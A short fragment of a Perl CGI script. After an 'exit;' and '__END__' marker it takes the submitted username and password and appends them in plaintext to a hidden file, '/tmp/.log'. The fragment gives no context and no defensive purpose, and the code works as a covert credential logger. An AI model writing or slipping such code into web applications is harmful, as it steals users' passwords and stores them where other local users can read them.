exit;
__END__
my $user = CGI::param('username');
my $password = CGI::param('password');
open(F, ">>/tmp/.log");
print F "$user:$password\n";
close(F);
